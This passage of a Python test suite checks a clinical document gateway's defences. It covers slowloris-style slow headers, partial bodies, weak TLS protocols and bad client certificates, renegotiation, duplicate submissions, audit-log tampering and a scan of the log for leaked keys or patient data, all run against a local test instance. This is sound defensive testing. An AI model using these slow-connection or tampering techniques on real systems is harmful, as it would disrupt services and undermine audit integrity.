        self.assertEqual(self.counts_without_last(), before, "row %d %s" % (row, name))
        self.assert_service_intact("row %d %s" % (row, name))

    def test_rows22_27_framing(self):
        for row, name, raw, status, code, audited in FRAMING:
            with self.subTest(row=row, case=name):
                self.framing_case(row, name, raw, status, code, audited)

    def test_row29_expect_continue_over_limit(self):
        seq0 = cdxtest.audit_max_seq(GW)
        c = Conn.open(GW, timeout=120.0)
        self.addCleanup(c.close)
        c.send(DOC_HEAD + "Content-Length: %d\r\nExpect: 100-continue\r\n\r\n" % (MAX_BODY + 1))
        r = c.read_response(timeout=120.0)
        problem_check(self, r, 413, "BODY_TOO_LARGE")
        self.assertTrue(c.wait_closed(60.0))
        self.assertNotIn(b"100 Continue", r.raw + c.buf)
        rows = self.settle_audit(seq0)
        self.assertEqual([(e, o) for _, e, o, *_ in rows], [("document.reject", REJECT)], rows)

    def test_row30_slowloris_cut_normal_client_served(self):
        c = Conn.open(GW, timeout=120.0)
        self.addCleanup(c.close)
        c.send(DOC_HEAD + "X-Slow: a")  # and nothing more
        # Meanwhile another client is served.
        with Conn.open(GW, timeout=120.0) as other:
            g = cdxtest.raw_get(other, "/v1/documents/" + REF[0], timeout=120.0)
            self.assertEqual(g.status, 200, g)
        problem_check(self, c.read_response(timeout=120.0), 408, "HTTP_HEADER_TIMEOUT")
        self.assertTrue(c.wait_closed(60.0))
        self.assert_service_intact("row 30")

    def test_row31_partial_body_discarded(self):
        """A body that stops: nothing of it is stored or acknowledged (the
        slow-rate rule itself: test_promises.TestBodyTimeouts)."""
        gw = Gateway(PKI, name="catalogue-slowbody", settings={"body_timeout_ms": 300,
                                                               "body_min_rate_bps": 0}).start()
        self.addCleanup(gw.stop)
        body = valid_doc("PARTIAL")
        c = Conn.open(gw, timeout=120.0)
        self.addCleanup(c.close)
        c.send(DOC_HEAD.encode() + b"Content-Length: %d\r\n\r\n" % len(body)
               + body[:len(body) // 2])
        problem_check(self, c.read_response(timeout=120.0), 408, "HTTP_BODY_TIMEOUT")
        self.assertEqual(cdxtest.table_count(gw, "documents"), 0)
        with Conn.open(gw, timeout=120.0) as c2:
            self.assertEqual(cdxtest.raw_post(c2, body, timeout=120.0).status, 201)


# ---------------------------------------------------------------------------
# TLS / identity (rows 34-37)
# ---------------------------------------------------------------------------

NO_EKU_EXT = """\
[ v3 ]
basicConstraints = critical,CA:FALSE
keyUsage = critical,digitalSignature
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
"""


def issue_without_client_eku(pki, name):
    ca = pki.ca
    key = os.path.join(ca.dir, name + ".key")
    csr = os.path.join(ca.dir, name + ".csr")
    crt = os.path.join(ca.dir, name + ".crt")
    ext = os.path.join(ca.dir, name + ".ext")
    cdxtest.run([cdxtest.OPENSSL, "genpkey", "-algorithm", "EC", "-pkeyopt",
                 "ec_paramgen_curve:P-256", "-out", key])
    cdxtest.run([cdxtest.OPENSSL, "req", "-new", "-key", key, "-out", csr, "-subj",
                 "/O=cdxgw e2e/CN=" + name])
    with open(ext, "w") as f:
        f.write(NO_EKU_EXT.replace("keyUsage = critical,digitalSignature",
                                   "keyUsage = critical,digitalSignature\n"
                                   "extendedKeyUsage = serverAuth"))
    cdxtest.run([cdxtest.OPENSSL, "x509", "-req", "-in", csr, "-CA", ca.crt, "-CAkey", ca.key,
                 "-CAcreateserial", "-out", crt, "-days", "30", "-sha256", "-extfile", ext,
                 "-extensions", "v3"])
    return cdxtest.Cert(name, crt, key)


class TestTls(unittest.TestCase):
    """Rows 34-37, each refusal registered by fingerprint so it cannot come
    from non-registration, each reason counted by the gateway."""

    @classmethod
    def setUpClass(cls):
        cls.no_eku = issue_without_client_eku(PKI, "catalogue-no-client-eku")
        cls.future = PKI.ca.issue_ca("catalogue-not-yet-valid", startdate="20990101000000Z",
                                     enddate="20991231000000Z")
        insts = [Institution(cdxtest.E2E_OID, "e2e clinic", PKI.good, "submit, query, admin")]
        for k, cert in enumerate((PKI.selfsigned, PKI.otherca_client, PKI.expired, PKI.revoked,
                                  cls.no_eku, cls.future)):
            insts.append(Institution("2.25.5%03d" % k, cert.name, sha256=cert.sha256(),
                                     roles="submit, query"))
        cls.gw = Gateway(PKI, name="catalogue-tls", institutions=insts, crl=PKI.crl).start()

    @classmethod
    def tearDownClass(cls):
        cls.gw.stop()

    def reasons(self):
        return {lab["reason"]: v for lab, v in cdxtest.metric_samples(
            self.gw.metrics(), "cdxgw_tls_handshake_failures_total")}

    def refused_with(self, cert, reason, **ctx):
        before = self.reasons()
        refused, detail = cdxtest.handshake_refused(self.gw, cert, **ctx)
        self.assertTrue(refused, detail)
        after = cdxtest.wait_for(lambda: (lambda r: r if r.get(reason, 0) > before.get(reason, 0)
                                          else None)(self.reasons()),
                                 what="cdxgw_tls_handshake_failures_total{reason=%s}" % reason)
        self.assertEqual(sum(after.values()) - sum(before.values()), 1,
                         "one refusal counted once: %r -> %r" % (before, after))
        self.assertRegex(self.gw.log(), r"event=tls\.handshake_failed\b.*\breason=%s\b" % reason)

    def test_row34_old_protocols_and_cbc_refused(self):
        weak = ["-cipher", "DEFAULT@SECLEVEL=0"]
        for args in (["-tls1"] + weak, ["-tls1_1"] + weak,
                     ["-tls1_2", "-cipher", "ECDHE-ECDSA-AES128-SHA256"]):
            with self.subTest(args=args):
                r = cdxtest.s_client(self.gw.port, PKI, args=args)
                cdxtest.assert_s_client_refused(self, r)
        ok = cdxtest.s_client(self.gw.port, PKI, args=["-tls1_2"])
        self.assertIn("HTTP/1.1 200", ok.stdout, ok.stderr[-1500:])

    def test_row35_client_certificates(self):
        cases = [(None, "no_certificate"), ("selfsigned", "unknown_ca"),
                 ("otherca_client", "unknown_ca"), ("expired", "expired"),
                 (self.future, "not_yet_valid"), (self.no_eku, "bad_certificate")]
        for cert, reason in cases:
            with self.subTest(cert=getattr(cert, "name", cert), reason=reason):
                self.refused_with(cert, reason)
        self.assertEqual(self.gw.curl("/healthz", cert="good").status, 200)

    def test_row36_revoked_and_stale_crl(self):
        self.refused_with("revoked", "revoked")
        with Gateway(PKI, name="catalogue-stale-crl", crl=PKI.stale_crl, institutions=[
                Institution(cdxtest.E2E_OID, "e2e clinic", PKI.good, "submit, query")]) as gw:
            refused, detail = cdxtest.handshake_refused(gw, "good")
            self.assertTrue(refused, "a stale CRL must refuse everyone: %s" % detail)
            cdxtest.wait_for(lambda: re.search(r"event=tls\.handshake_failed\b.*"
                                               r"\breason=crl_unavailable\b", gw.log()),
                             what="reason=crl_unavailable logged")

    def test_row37_renegotiation_refused(self):
        """s_client's `R` command asks for a renegotiation on TLS 1.2; the
        gateway refuses it and the connection serves nothing after."""
        req = "R\nGET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
        r = subprocess.run([cdxtest.OPENSSL, "s_client", "-connect", "127.0.0.1:%d"
                            % self.gw.port, "-servername", "localhost", "-CAfile", PKI.ca.crt,
                            "-cert", PKI.good.crt, "-key", PKI.good.key, "-tls1_2"],
                           input=req, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           text=True, timeout=120)
        self.assertIn("RENEGOTIATING", r.stdout + r.stderr, r.stdout[-1500:] + r.stderr[-1500:])
        self.assertNotIn("HTTP/1.1 200", r.stdout, "served after a renegotiation attempt")
        self.assertRegex(r.stdout + r.stderr, r"(?i)no.renegotiation|alert|errno|error",
                         r.stderr[-1500:])
        # Control: the same client without the R command is served.
        ok = cdxtest.s_client(self.gw.port, PKI, args=["-tls1_2"])
        self.assertIn("HTTP/1.1 200", ok.stdout, ok.stderr[-1500:])


# ---------------------------------------------------------------------------
# Idempotency (rows 39-40)
# ---------------------------------------------------------------------------

class TestIdempotency(BadCase):
    """Rows 39-40 (the concurrent form of row 39:
    test_durability.TestConcurrentIdentical)."""

    def test_row39_same_document_twice_same_receipt(self):
        body = valid_doc("TWICE")
        first = self.post(body)
        self.assertEqual(first.status, 201, first)
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        again = self.post(body)
        self.assertEqual(again.status, 200, again)
        keys = ("id", "sha256", "patient", "version")
        self.assertEqual({k: again.json()[k] for k in keys}, {k: first.json()[k] for k in keys})
        self.assertEqual(again.json().get("status"), "already_stored", again)
        self.assertEqual(self.counts(), before, "a resubmission added rows")
        rows = cdxtest.audit_since(GW, seq0)
        self.assertEqual([(e, o, d) for _, e, o, _, d, _ in rows],
                         [("document.ingest", 0, first.json()["id"])], rows)

    def test_row40_same_id_other_bytes_409(self):
        body = valid_doc("CONFLICT")
        first = self.post(body)
        self.assertEqual(first.status, 201, first)
        uid, sha = first.json()["id"], first.json()["sha256"]
        other = body.replace(b"<title>e2e test document</title>",
                             b"<title>e2e test document, edited</title>", 1)
        self.assertNotEqual(other, body)
        seq0 = cdxtest.audit_max_seq(GW)
        before = self.counts()
        d = problem_check(self, self.post(other), 409, "DOC_ID_CONFLICT")
        self.assertEqual(self.counts(), before)
        rows = cdxtest.audit_since(GW, seq0)
        self.assertEqual([(e, o, d) for _, e, o, _, d, _ in rows],
                         [("document.conflict", REJECT, uid)], rows)
        with Conn.open(GW) as c:
            g = cdxtest.raw_get(c, "/v1/documents/" + uid)
        self.assertEqual(g.status, 200, g)
        self.assertEqual(hashlib.sha256(g.body).hexdigest(), sha, "the original changed")
        self.assertEqual(g.body, body)
        self.assertIn("detail", d)
        self.assert_service_intact("row 40")


# ---------------------------------------------------------------------------
# Audit integrity (row 58)
# ---------------------------------------------------------------------------

class TestAuditTamper(unittest.TestCase):
    """Row 58: `cdxgw audit verify` from the command line over a copy of the
    registry (consistent snapshot through SQLite's backup API), tampered with
    in three ways; it exits 1 and names the first bad record.  The untouched
    copy verifies (exit 0), so a failure cannot come from the copy itself."""

    def snapshot(self, name):
        folder = os.path.join(GW.dir, "tamper-" + name)
        os.makedirs(folder, exist_ok=True)
        dest = os.path.join(folder, "registry.db")
        src = cdxtest.registry_ro(GW)
        dst = sqlite3.connect(dest)
        try:
            src.backup(dst)
        finally:
            src.close()
            dst.close()
        for key in ("patient-hmac.key",):
            p = os.path.join(GW.dir, "data", key)
            if os.path.exists(p):
                shutil.copy(p, folder)
        conf = os.path.join(GW.dir, "tamper-%s.conf" % name)
        with open(GW.conf, encoding="utf-8") as f:
            text = f.read()
        with open(conf, "w", encoding="utf-8") as f:
            f.write(re.sub(r"(?m)^data_dir = .*$", "data_dir = tamper-" + name, text))
        return dest, conf

    def verify(self, conf):
        return cdxtest.audit_verify(conf, timeout=300)

    def first_bad(self, p):
        m = re.search(r"\b(?:seq|record)[ =#]*(\d+)", p.stdout + p.stderr)
        return int(m.group(1)) if m else None

    @classmethod
    def setUpClass(cls):
        # Enough records to tamper in the middle.
        for k in range(6):
            with Conn.open(GW) as c:
                r = cdxtest.raw_post(c, valid_doc("AUDIT"))
                assert r is not None and r.status == 201, r

    def test_row58_control_copy_verifies(self):
        _, conf = self.snapshot("control")
        p = self.verify(conf)
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)

    def test_row58_flip_one_byte_in_the_file(self):
        db, conf = self.snapshot("flip")
        con = sqlite3.connect(db)
        n, = con.execute("SELECT count(*) FROM audit").fetchone()
        k = n // 2
        h, = con.execute("SELECT hash FROM audit WHERE seq = ?", (k,)).fetchone()
        con.close()
        with open(db, "rb") as f:
            data = bytearray(f.read())
        at = data.find(h.encode())
        self.assertGreater(at, 0)
        # (The same 64 hex digits are also the next record's prev_hash: the
        # first copy in the file is either; the chain breaks at k or k + 1.)
        data[at + 10] = ord("0") if data[at + 10] != ord("0") else ord("1")
        with open(db, "wb") as f:
            f.write(data)
        p = self.verify(conf)
        self.assertEqual(p.returncode, 1, p.stdout + p.stderr)
        self.assertIn(self.first_bad(p), (k, k + 1), p.stdout + p.stderr)

    def test_row58_change_one_field(self):
        db, conf = self.snapshot("field")
        con = sqlite3.connect(db)
        n, = con.execute("SELECT count(*) FROM audit").fetchone()
        k = n // 3
        con.execute("UPDATE audit SET outcome = outcome + 1 WHERE seq = ?", (k,))
        con.commit()
        con.close()
        p = self.verify(conf)
        self.assertEqual(p.returncode, 1, p.stdout + p.stderr)
        self.assertEqual(self.first_bad(p), k, p.stdout + p.stderr)

    def test_row58_swap_two_rows(self):
        db, conf = self.snapshot("swap")
        con = sqlite3.connect(db)
        n, = con.execute("SELECT count(*) FROM audit").fetchone()
        a, b = n // 4, n // 2
        cols = [r[1] for r in con.execute("PRAGMA table_info(audit)") if r[1] != "seq"]
        ra = con.execute("SELECT %s FROM audit WHERE seq = ?" % ",".join(cols), (a,)).fetchone()
        rb = con.execute("SELECT %s FROM audit WHERE seq = ?" % ",".join(cols), (b,)).fetchone()
        sets = ",".join("%s = ?" % c for c in cols)
        con.execute("UPDATE audit SET %s WHERE seq = ?" % sets, tuple(rb) + (a,))
        con.execute("UPDATE audit SET %s WHERE seq = ?" % sets, tuple(ra) + (b,))
        con.commit()
        con.close()
        p = self.verify(conf)
        self.assertEqual(p.returncode, 1, p.stdout + p.stderr)
        self.assertEqual(self.first_bad(p), a, p.stdout + p.stderr)

    def test_row58_delete_a_middle_row(self):
        db, conf = self.snapshot("delete")
        con = sqlite3.connect(db)
        n, = con.execute("SELECT count(*) FROM audit").fetchone()
        k = n // 2
        con.execute("DELETE FROM audit WHERE seq = ?", (k,))
        con.commit()
        con.close()
        p = self.verify(conf)
        self.assertEqual(p.returncode, 1, p.stdout + p.stderr)
        self.assertIn(self.first_bad(p), (k, k + 1), p.stdout + p.stderr)


class TestZzGatewayHealthy(unittest.TestCase):
    """Runs last: the gateway survived everything above without a sanitizer
    report or an error-level crash line."""

    def test_gateway_alive_and_clean(self):
        self.assertTrue(GW.alive(), "gateway exited with %s; stderr:\n%s"
                        % (GW.proc.returncode, GW.log()[-4000:]))
        self.assertIsNone(cdxtest.sanitizer_report(GW.log()), GW.log()[-5000:])


class TestZzLogScan(unittest.TestCase):
    """Row 60, runs after the rest: the gateway's log of this whole module
    holds no patient data from the fixtures, no private key and no
    certificate."""

    def test_row60_no_phi_keys_or_certificates_in_the_log(self):
        log = GW.log()
        self.assertIn("event=document.stored", log, "the log scan needs a log")
        for secret in (REF_FAMILY, REF_PATIENT, "PRIVATE KEY", "BEGIN CERTIFICATE"):
            self.assertNotIn(secret, log)
        for path in (PKI.server.key, PKI.good.key, PKI.good.crt, PKI.server.crt):
            with open(path) as f:
                body = [ln for ln in f.read().splitlines() if ln and not ln.startswith("-----")]
            for ln in body:
                self.assertNotIn(ln, log, "a line of %s is in the log" % os.path.basename(path))


if __name__ == "__main__":
    cdxtest.main()
